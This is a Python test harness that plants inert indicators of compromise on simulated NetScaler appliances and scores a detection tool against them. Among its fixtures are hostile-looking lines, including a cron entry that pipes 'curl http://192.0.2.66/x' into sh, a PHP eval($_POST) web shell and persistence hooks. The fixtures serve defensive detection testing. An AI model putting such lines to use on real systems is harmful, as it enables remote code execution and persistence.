# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Generated appliances with the harmless markers of an attacker, and clean ones with the noise of a working day; the confusion matrix of the watch on them.

    python -m tests.watch_fleet [--write]

``--write`` puts the matrix into docs/explanation/observing.md.

The markers are written from what was published about attacks and scanners; each group names its source. A marker has the names and words that were
published, and does nothing.
"""

from __future__ import annotations

import sys
import tempfile
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

try:
    import ansible_collections.tourniquet.netscaler  # noqa: F401
except ImportError:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / ".collections"))

from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import Examination
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watch import Watch
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watched_state import WatchedState

from simulator import Simulator
from simulator.server.python_api import ApplianceHandle
from tests.engine.stage import Stage
from tests.marker_fleet import (
    COMPROMISE,
    REVIEW,
    SIZE,
    UNSEEABLE,
    Marker,
    Outcomes,
    Planned,
    Plant,
    Population,
    data,
    file,
    report,
)

AT = "2026-11-28T00:00:00Z"
BUILDS = ("12.1 55.18", "13.0 47.22", "13.0 92.19", "13.1 49.15", "14.1 47.48", "14.1 73.46")
LEVELS = (COMPROMISE, REVIEW)
MESSAGES = "/var/log/messages"
VERIEXEC = (
    "Sep 20 01:02:03 <kern.crit> ns kernel: MAC/veriexec: {} (file={} fsid=1 fileid=2 gen=1 uid=0 pid=3 ppid=1 gppid=0)"
)
NO_FINGERPRINT, MISMATCH = "no fingerprint", "fingerprint does not match loaded value"


def at(path: str, level: str, text: str = "x\n", **more: Any) -> Marker:
    return Marker(path, level, path, file(path, text, **more))


def line(text: str, path: str = MESSAGES) -> Plant:
    return lambda box: box.log(path, text)


def elf(path: str) -> Plant:
    return data(path, b"\x7fELF\x02")


MARKERS = (
    # ioc-scanner-CVE-2019-19781, nshunt
    at("/var/cron/tabs/nobody", COMPROMISE, "0 0 1 1 * true\n"),
    at("/netscaler/portal/templates/a1.xml", REVIEW),
    at("/netscaler/portal/scripts/PersonalBookmak.pl", COMPROMISE),
    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", REVIEW),
    at("/var/vpn/bookmark/u.xml", COMPROMISE, "<x>template.new('x')</x>"),
    at("/var/vpn/bookmark/pwnpzi1337.pl", COMPROMISE),
    Marker("NOTROBIN", REVIEW, "/var/nstmp/.nscache", file("/var/nstmp/.nscache/httpd")),
    Marker("miner", REVIEW, "/var/tmp/netscalerd", elf("/var/tmp/netscalerd")),
    # citrix-ioc-scanner-cve-2023-3519, netscaler-ir-collector
    at("/var/vpn/theme/.theme.php", COMPROMISE, "<?php\n"),
    at("/var/vpn/themes/insight-new-min.js", REVIEW),
    at("/var/vpn/themes/info.html", COMPROMISE, "<html><?php eval($_POST['x']); ?></html>\n"),
    at("/var/vpn/x.php", COMPROMISE),
    at("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", COMPROMISE),
    at("/var/netscaler/logon/LogonPoint/custom/.slap.receiver", REVIEW),
    at("/var/netscaler/logon/LogonPoint/strings.en.js", REVIEW),
    at("/var/netscaler/logon/a.html", REVIEW),
    # netscaler-ctx697096-checker
    at("/var/netscaler/gui/vpn/scripts/linux/nsginstaller.deb", COMPROMISE, "#!/bin/sh\n"),
    at("/var/netscaler/gui/vpn/images/f.ico", COMPROMISE, "#!/bin/sh\n"),
    at("/netscaler/ns_gui/vpn/e.txt", REVIEW),
    at("/netscaler/ns_gui/admin_ui/id009.php", COMPROMISE),
    at("/netscaler/ns_gui/epa/scripts/mac/nx_verify.html", REVIEW),
    at("/tmp/sh", REVIEW, "#!/bin/sh\n"),
    at("/.x", REVIEW),
    Marker("executable in a directory of crashes", REVIEW, "/var/core/1/nsd", elf("/var/core/1/nsd")),
    at("/nsconfig/.slap", REVIEW),
    at("/nsconfig/rc.netscaler", REVIEW, "nohup sh /var/tmp/x\n"),
    at("/nsconfig/nsafter.sh", REVIEW, "true\n"),
    at("/nsconfig/httpd.conf", REVIEW, "php_flag engine on\n"),
    at("/nsconfig/ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
    at("/root/.ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
    at("/etc/crontab", REVIEW, "0 * * * * root curl http://192.0.2.66/x | sh\n"),
    at("/nsconfig/crontab", REVIEW, "0 * * * * root true\n"),
    at("/var/cron/tabs/root", REVIEW, "0 * * * * sh /var/tmp/x\n"),
    # page BSV for enhanced security
    Marker("unsigned file that was run", REVIEW, "/var/tmp/x", line(VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/x"))),
    Marker("changed executable", COMPROMISE, "/bin/sh", line(VERIEXEC.format(MISMATCH, "/bin/sh"))),
    # Only a shell shows these.
    Marker("setuid shell", UNSEEABLE, "permission bits", lambda box: box.write_file("/bin/sh", "x", mode="6555")),
    Marker("process", UNSEEABLE, "processes", lambda box: box.processes([{"user": "nobody", "pid": 1351, "command": "/tmp/x"}])),
)  # fmt: skip


def theme_edit(box: ApplianceHandle) -> None:
    """Thirty files of one burst (README of netscaler-ctx697096-checker)."""
    for number in range(30):
        text = "function show() { return String.fromCharCode(65); }\n"
        box.write_file(
            f"/var/netscaler/logon/LogonPoint/custom/strings.{number}.js", text, mtime="2026-11-20T03:00:00Z"
        )


def upgrade_files(box: ApplianceHandle) -> None:
    for path in ("/var/nsinstall/installns_state", "/var/core/bounds", "/var/core/minfree", "/var/tmp/install.log"):
        box.write_file(path, "1\n")
    box.log(MESSAGES, "Jan 19 23:00:06 <kern.notice> ns kernel: pitboss: new process nsppe")


def administrators(box: ApplianceHandle) -> None:
    box.write_file("/var/vpn/bookmark/bm_prefix_dXNlcg==", "<bookmarks></bookmarks>\n")
    box.write_file("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n")
    box.write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n")
    box.log(MESSAGES, VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/backup of admin.sh"))


def console(box: ApplianceHandle) -> None:
    box.write_file("/tmp/log-2026-11-20.php", "<?php\n")
    box.write_file("/var/tmp/session.txt", "1\n")


def imitations(box: ApplianceHandle) -> None:
    """A client wrote the words of the kernel into the name with which he logs on."""
    text = VERIEXEC.format(MISMATCH, "/bin/sh")
    box.log(MESSAGES, f"Sep 20 01:02:03 <auth.err> ns sshd[12]: Invalid user x kernel: {text} from 198.51.100.7")


NOISE: tuple[Plant, ...] = (theme_edit, upgrade_files, administrators, console, imitations)
POPULATION = Population(MARKERS, BUILDS, NOISE)


def counted(outcomes: Outcomes, one: Planned, examined: Examination) -> None:
    """Count what a watch found: beside others, a marker to review may be told with one of a compromise."""
    texts = {level: [f.where for f in examined.findings if f.level == level] for level in LEVELS}
    among_others = (REVIEW, COMPROMISE) if len(one.markers) > 1 else (REVIEW,)
    outcomes.add(one, examined, texts, lambda marker: among_others if marker.level == REVIEW else (marker.level,))


def look(
    simulator: Simulator, directory: Path, host: str, accepted: WatchedState | None = None, **options: Any
) -> tuple[WatchedState, Examination, int]:
    """Return the state, the examination and the number of requests of one run."""
    with Connection(Stage(simulator, directory, host).appliance) as connection:
        state, examined = Watch(host, accepted, accepted, **options).look(connection, AT)
    return state, examined, len(connection.exchanges)


def play(stride: int = 1, size: int = SIZE) -> Outcomes:
    """Watch one of so many of the generated appliances; the state of a clean one of each build is the accepted one."""
    outcomes = Outcomes(LEVELS)
    with tempfile.TemporaryDirectory() as name, Simulator(POPULATION.fleet) as simulator:
        directory = Path(name)
        hosts = POPULATION.fleet["appliances"]
        accepted: Mapping[str, WatchedState] = {host: look(simulator, directory, host)[0] for host in hosts}
        for one in [*POPULATION.planned(size)][::stride]:
            simulator.reset()
            host = POPULATION.host(one)
            one.plant(simulator.appliance(host))
            began = time.perf_counter()
            _state, examined, requests = look(simulator, directory, host, accepted[host])
            outcomes.seconds.append(time.perf_counter() - began)
            outcomes.requests.append(requests)
            outcomes.bytes.append(dict(examined.looked_at)["bytes read"])
            counted(outcomes, one, examined)
    return outcomes


if __name__ == "__main__":
    sys.exit(report(play(), "watch"))
